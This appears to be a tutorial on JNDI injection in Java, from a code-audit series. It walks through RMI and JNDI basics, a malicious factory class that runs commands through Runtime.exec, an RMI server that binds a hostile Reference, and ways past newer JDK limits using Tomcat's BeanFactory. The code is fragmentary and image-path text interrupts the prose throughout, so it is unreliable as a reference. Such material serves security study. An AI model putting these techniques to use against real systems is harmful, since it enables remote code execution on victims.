JNDI injection of Java code audit series

JNDI injection of Java code audit series

0x01 Preface

When mining or exploiting Java deserialization vulnerabilities, concepts such as RMI, JNDI, and JRMP are often encountered. Among them, RMI is a Java remote method invocation mechanism based on serialization. As a common deserialization entry, it is inextricably related to deserialization vulnerabilities. In addition to directly attacking the RMI service interface (for example: CVE-2017-3241), we can also combine RMI to facilitate remote code execution when constructing deserialization exploits.

We talked about the loading of dynamic classes in the previous course, and jndi injection uses dynamic class loading to complete the attack. Before that, let’s firstunderstand the basics of jndi injection.

0x02 What is jndi

JNDI is the Java Naming and Directory Interface (Java Naming and Directory Interface). It is one of the important specifications in the J2EE specification. Many bigwigs may think that without a thorough understanding of the meaning and function of JNDI, they will not have a real grasp of J2EE, especially Knowledge of EJB.

Let's take a conventional JDBC example

Connection jdbcconn=null;
try {
} catch(Exception e) {
} finally {
    if(jdbcconn!=null) {
        try {
        } catch(SQLException e) {

This is an example of a conventional link to a database, and it is also a common practice for programmers in other languages.


  1. It is understandable that this method will not have any impact in the small-scale development process. As long as the programmer is familiar with Javaand Mysql, the corresponding program can be developed quickly.


1. The address and name of the database server, user name and password may all need to be changed, which leads to the need to modify the JDBC URL;
2. The database may be changed to other products, such as DB2 or Oracle, which may cause the need for the JDBC driver package and class name Modification;
3. With the increase of terminals actually used, the original configuration connection pool parameters may need to be adjusted;

How to solve

For a programming language with a strong abstraction model like Java, the existence of such LowB is certainly not allowed, and programmers should not pay attention to what the back-end database is and what the version is. So in order to unify management, JNDI was born

0x03 Use JNDIAt the beginning, many people will be confused by the words jndi and rmi, and many articles mentioned that you can use jndi to call rmi, which makes people more faint. As long as we know that jndi re-encapsulates various logics for accessing directory services, thatis, the code we need to write to access rmiand ldap in the past is very different, but with the jndi layer, we can use jndi. Easily access rmi or ldap services, so that the code implementation for accessing different services is basically the same.


There are binding and search methods in JNDI:

- bind:将第一个参数绑定到第二个参数的对象上面
- lookup:通过提供的名称查找对象

Let's take an example:


package com.evalshell.jndi;

import java.rmi.Remote;
import java.rmi.RemoteException;

public interface IHello extends Remote {
    public String SayHello(String name) throws RemoteException;


package com.evalshell.jndi;

import java.rmi.RemoteException;import java.rmi.server.UnicastRemoteObject;

public class IHelloImpl extends UnicastRemoteObject implements IHello {
    public IHelloImpl() throws RemoteException {

    public String SayHello(String name)throws RemoteException {
        return "Hello " + name;


package com.evalshell.jndi;

import javax.naming.Context;
import javax.naming.InitialContext;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.util.Properties;

public class CallService {
    public static void main(String[] args) throwsException{
        Properties env = new Properties();
        env.put(Context.INITIAL_CONTEXT_FACTORY, "com.sun.jndi.rmi.registry.RegistryContextFactory");
        env.put(Context.PROVIDER_URL, "rmi://localhost:1099");

        Context ctx = new InitialContext(env);

        Registry registry = LocateRegistry.createRegistry(1099);

        IHello hello = new IHelloImpl();

        registry.bind("hello", hello);

        IHello rhello = (IHello)ctx.lookup("rmi://localhost:1099/hello");


Because the above code writes the server side and the client side together, it looks not so clear. I have seen many articles in the JNDI factory initialization step. The operation is divided into the server side. I think it is wrong. Configure jndi factory and jndi The url and port should be a matter of the client.

You can compare the difference between the rmidemo in the previous chapters andthe jndi demo here to access remote objects to deepen your understanding.

JNDI injection

Principle of injection

We come to the core part of JNDI injection. Regarding JNDI injection, @pwntester has written in detail in the handout on BlackHat. Here we focus on the part related to RMI deserialization. Students who have been exposed to JNDI injection may wonder, shouldn’t the RMI server finally execute the remote method? Why is the target server lookup() a malicious RMI service address and malicious code executed?

In the JNDI service, in addition to directly binding the remote object, the RMI server can also bind an externalremote object (an object outside the current name directory system) through the References class. After binding the Reference, the server will first obtain the reference of the bound object through Referenceable.getReference() and save it in the directory. When the client finds this remote object in lookup(), the client will obtain the corresponding object factory, and finally convert the reference into a specific object instance through the factory class.

The entire utilization process is as follows:

  1. InitialContext.lookup(URI) is called in the target code, and the URI is user-controllable;
  2. The attacker controls the URI parameter to the malicious RMI service address, such as: rmi://hacker_rmi_server//name;
  3. The attacker's RMI server returns a Reference object tothe target, and a carefully constructed Factory class is specified in the Reference object;
  4. When the target performs the lookup() operation, it will dynamically load and instantiate the Factory class, and then call factory.getObjectInstance() to obtain an external remote object instance;
  5. The attacker can write malicious code in the factory file construction method, static code block, getObjectInstance() method, etc., to achieve the effect of RCE;

Here, the attack target plays the role of a JNDI client, and the attacker implements the attack by building a malicious RMI server. When we follow the code of the lookup() function, we can see the processing logic of the Reference class in JNDI, which will eventually call NamingManager.getObjectInstance():

Actual case

Create a malicious object first

package com.evalshell.jndi;

import javax.lang.model.element.Name;
import javax.naming.Context;
importjava.io.BufferedInputStream;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.util.HashMap;

public class BadObject {
    public static void exec(String cmd) throws IOException {
        String sb = "";
        BufferedInputStream bufferedInputStream = newBufferedInputStream(Runtime.getRuntime().exec(cmd).getInputStream());
        BufferedReader inBr = new BufferedReader(new InputStreamReader(bufferedInputStream));
        String lineStr;
        while((lineStr = inBr.readLine()) != null){
            sb += lineStr+"\n";


    public Object getObjectInstance(Object obj, Name name, Context context, HashMap<?, ?> environment) throws Exception{
        return null;

    static {
        }catch (Exception e){


You can see here that the static code block is used to execute the command

  1. Create rmi server and bind malicious Reference to rmi registry
package com.evalshell.jndi;

import com.sun.jndi.rmi.registry.ReferenceWrapper;import javax.naming.NamingException;
import javax.naming.Reference;
import java.rmi.AlreadyBoundException;
import java.rmi.RemoteException;
importjava.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;

public class Server {
    public static void main(String[] args) throws RemoteException, NamingException, AlreadyBoundException {
        Registry registry = LocateRegistry.createRegistry(1100);
        String url = "";
        System.out.println("Create RMI registry on port 1100");
        Reference reference = new Reference("EvilObj", "EvilObj", url);
        ReferenceWrapper referenceWrapper = new ReferenceWrapper(reference);
        registry.bind("evil", referenceWrapper);Create a client (victim)

package com.evalshell.jndi;

import javax.naming.Context;
import javax.naming.InitialContext;
import javax.naming.NamingException;

public class Client {
    public static void main(String[] args) throws NamingException {
        Context context = new InitialContext();

You can see that the parameters of the lookup method here point to the malicious rmi address I set.

Then compile the project first, generate the class file, andthen start a simple HTTP Server with python in the class file directory:

python -m SimpleHTTPServer 7777

Executing the above command will run an HTTP Server on port 7777 in the current directory:

Then run the Server side and start the rmi registry service

If it is JDK1.7 version, it can run successfully

JDK1.8 finally runs an error

At this time, using JNDI Server toreturn a malicious Reference can be successfully exploited, because JDK 8u191 only restricts the LDAP JNDI Reference.

Tips: There is a detail in the test process. We can successfully use RMI Server + JNDI Reference in JDK 8u102. At this time, we manually set com.sun.jndi.rmi.object.trustURLCodebase and other properties to false, which will not As expected, thelimited effects of higher versions of JDK appear, and Payload can still be used.

Bypass the restrictions of high version JDK: uselocal Class as Reference Factory

In the higher version (such as: JDK8u191 and above), although the malicious Factorycannot be loaded remotely, we can still specify the Factory Class in the returned Reference. This factory class must be in the local CLASSPATH of the victim. The factory class must implement the javax.naming.spi.ObjectFactory interface,and at least one getObjectInstance() method must exist. org.apache.naming.factory.BeanFactory just meets the conditions and may be used. org.apache.naming.factory.BeanFactory exists in the Tomcat dependency package, so it is also widelyused.

org.apache.naming.factory.BeanFactory in getObjectInstance() will instantiate any Bean Class pointed to by Reference through reflection, and will call the setter method to assign values to all properties. The class name, attributes, andattribute values of the Bean Class allcome from the Reference object, which areall controllable by the attacker.